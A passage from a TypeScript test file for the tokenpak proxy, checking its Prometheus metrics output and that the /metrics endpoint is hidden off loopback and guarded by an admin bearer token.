        total(requests, (l) => l.outcome === "blocked" && l.status === "402" && l.project === "web"),
      ).toBe(3);
      expect(total(requests, (l) => l.route === "messages")).toBe(3);
      const output = total(f.get("tokenpak_tokens_total"), (l) => l.kind === "output");
      expect(output).toBe(sum(settleEntries(w.data).map((e) => e.usage.output)));
      const added = f.get("tokenpak_added_latency_seconds");
      expect(added?.type).toBe("HISTOGRAM");
      // The parser folds a histogram's label sets together: its counts are read off the lines.
      const counts = [...text.matchAll(/^tokenpak_added_latency_seconds_count\{route="\w+"\} (\d+)$/gm)];
      expect(sum(counts.map((m) => Number(m[1])))).toBe(12); // every forwarded request
      expect(f.get("tokenpak_upstream_latency_seconds")?.metrics.length).toBeGreaterThan(0);
      const util = f.get("tokenpak_budget_utilization_ratio");
      const daily = util?.metrics.find((m) => m.labels?.scope === "workspace" && m.labels.window === "daily");
      expect(Number(daily?.value)).toBeCloseTo(ledgerSpend(w.data) / 100_000 / 1e6, 12);
      expect(util?.metrics.some((m) => m.labels?.scope === "user:dave")).toBe(true);
      // dave's budget refused a request: blocked, as `status` says, though its spend never reached the cap.
      expect(total(f.get("tokenpak_budget_blocked"), (l) => l.scope === "user:dave")).toBe(1);
      expect(total(f.get("tokenpak_budget_blocked"))).toBe(1);
      expect(total(f.get("tokenpak_reservations_in_flight"))).toBe(0);
      expect(f.has("tokenpak_alert_deliveries_pending")).toBe(true);
      expect(f.has("tokenpak_pricing_age_seconds")).toBe(true);
      expect(f.has("process_cpu_user_seconds_total")).toBe(true);
      // Every name the Grafana dashboard uses is one we expose.
      const dashboard = readFileSync(new URL("../examples/grafana-dashboard.json", import.meta.url), "utf8");
      const used = new Set(
        [...dashboard.matchAll(/tokenpak_[a-z_]+/g)].map((m) => m[0].replace(/_(bucket|sum|count)$/, "")),
      );
      expect(used.size).toBeGreaterThan(5);
      for (const name of used) expect(f.has(name), name).toBe(true);
    } finally {
      await proxy.close();
    }
  });

  it("is off beyond loopback unless server.metrics or the admin token says otherwise; the token is then required", async () => {
    const server = (extra: Record<string, unknown>) =>
      configFrom(yaml()).server && { ...configFrom(yaml()).server, ...extra };
    expect(metricsAccess("127.0.0.1", server({}))).toEqual({ served: true });
    expect(metricsAccess("::1", server({}))).toEqual({ served: true });
    expect(metricsAccess("0.0.0.0", server({}))).toEqual({ served: false });
    expect(metricsAccess("0.0.0.0", server({ admin_token: "s3cret" }))).toEqual({
      served: true,
      token: "s3cret",
    });
    expect(metricsAccess("0.0.0.0", server({ metrics: true }))).toEqual({ served: true });
    expect(metricsAccess("127.0.0.1", server({ metrics: false }))).toEqual({ served: false });

    const w = await world();
    const open = await startProxy({ config: configFrom(yaml()), dataDir: w.data, host: "0.0.0.0", port: 0 });
    try {
      const url = `http://127.0.0.1:${open.port}/metrics`;
      expect((await fetch(url)).status).toBe(404);
    } finally {
      await open.close();
    }
    const guarded = await startProxy({
      config: configFrom(yaml("server: { admin_token: s3cret-token }")),
      dataDir: w.data,
      host: "0.0.0.0",
      port: 0,
    });
    try {
      const url = `http://127.0.0.1:${guarded.port}/metrics`;
      const refused = await fetch(url);
      expect(refused.status).toBe(401);
      expect(((await refused.json()) as { error: { message: string } }).error.message).not.toContain(
        "s3cret",
      );
      expect((await fetch(url, { headers: { authorization: "Bearer wrong" } })).status).toBe(401);
      const ok = await fetch(url, { headers: { authorization: "Bearer s3cret-token" } });
      expect(ok.status).toBe(200);
      expect(await ok.text()).toContain("# TYPE tokenpak_requests_total counter");
    } finally {
      await guarded.close();
    }
  });
});
